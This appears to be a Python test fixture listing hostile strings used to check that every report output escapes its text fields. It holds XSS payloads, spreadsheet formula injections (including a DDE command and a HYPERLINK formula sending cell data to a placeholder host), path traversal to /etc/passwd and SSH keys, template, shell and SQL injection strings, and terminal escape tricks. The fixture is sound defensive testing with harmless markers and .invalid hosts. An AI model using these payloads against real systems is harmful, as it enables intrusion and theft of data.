"""Hostile texts that every output must show as text: markup, formulas, paths, templates, terminal and Unicode tricks, sizes.

Put a text here when it once broke, or could break, some sink; ``PAYLOADS`` is fed into every text field of every report. Scripts, were
one to run, would set ``window.pwned``; addresses are of the reserved ``.invalid`` domain, so nothing is reached even when a test fails.
"""

from __future__ import annotations

from dataclasses import dataclass

_RUN = "window.pwned=1"
_HOST = "http://pwned.invalid"


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile text and the kind of trick it plays."""

    kind: str
    text: str


_MARKUP = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src='{_HOST}/beacon.png'>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"</desc></svg><img src=x onerror={_RUN}>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data='{_HOST}/x.swf'></object>",
    f"<embed src='{_HOST}/x'>",
    f"<link rel=stylesheet href='{_HOST}/x.css'>",
    f"<meta http-equiv=refresh content='0;url={_HOST}'>",
    f"<base href='{_HOST}/'>",
    f"<form action='{_HOST}'><input name=q autofocus onfocus={_RUN}></form>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<math><mtext><table><mglyph><style><img src onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<a href='javascript:{_RUN}'>here</a>",
    f"<xss style='animation-name:x' onanimationstart={_RUN}>",
    "<plaintext>",
    "<!--",
    f"<style>body{{background:url({_HOST}/css)}}</style>",
)
_ATTRIBUTES = (
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus tabindex=1 '",
    f'"><script>{_RUN}</script>',
    f"`onmouseover={_RUN}`",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"x;background:url({_HOST}/style)",
    "&lt;b&gt; &amp;amp; &#60;script&#62; &quot;",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\u2028<script>{_RUN}</script>\u2029",
    f"<\x00script>{_RUN}</script>",
)
_FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://pwned.invalid/?"&A1,"open")',
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "'=1+1",
    '","=1+1',
    "a\r\nb,c;d\te",
)
_PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\con",
    "%2e%2e%2f%00",
    "CON",
    "~/.ssh/id_ed25519",
    "a\x00.html",
    ".",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{# gone #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s%n%x {0.__class__} %(x)s",
    "$(touch pwned) `touch pwned` ; touch pwned",
    "Robert'); DROP TABLE event;--",
)
_MARKDOWN = (
    "| a | b |\n|---|---|",
    f"[click](javascript:{_RUN})",
    f"![x]({_HOST}/beacon.png)",
    f"<{_HOST}>",
    f"{_HOST}/autolink www.pwned.invalid a@pwned.invalid",
    "```\n# heading\n```",
    "~~struck~~ **bold** _it_ \\| \\",
)
_UNICODE = (
    "\u202egnp.exe\u202c",
    "zero\u200bwidth\ufeffjoin\u2060er",
    "lone \ud800 surrogate",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "back\x08space \x7f \x9b31m",
    "Z" + "\u0335\u0321\u0322\u0316\u0317" * 20 + "algo",
    "\u0391\u03c1\u03b9\u03b8\u03bc\u03cc\u03c2 \u65e5\u672c\u8a9e \u0639\u0631\u0628\u064a \U0001f9ea\ufe0f",
    "\ufffe\uffff",
    "\u00a0\u3000  \u2003",
    "Infinity",
    "NaN",
    "",
)
_HUGE = ("A" * 100_000, "<b>" * 20_000, "\u65e5" * 50_000, "word " * 20_000, "&" * 50_000)

PAYLOADS: tuple[Payload, ...] = tuple(
    Payload(kind, text)
    for kind, texts in (
        ("markup", _MARKUP),
        ("attribute", _ATTRIBUTES),
        ("formula", _FORMULAS),
        ("path", _PATHS),
        ("template", _TEMPLATES),
        ("markdown", _MARKDOWN),
        ("unicode", _UNICODE),
        ("huge", _HUGE),
    )
    for text in texts
)
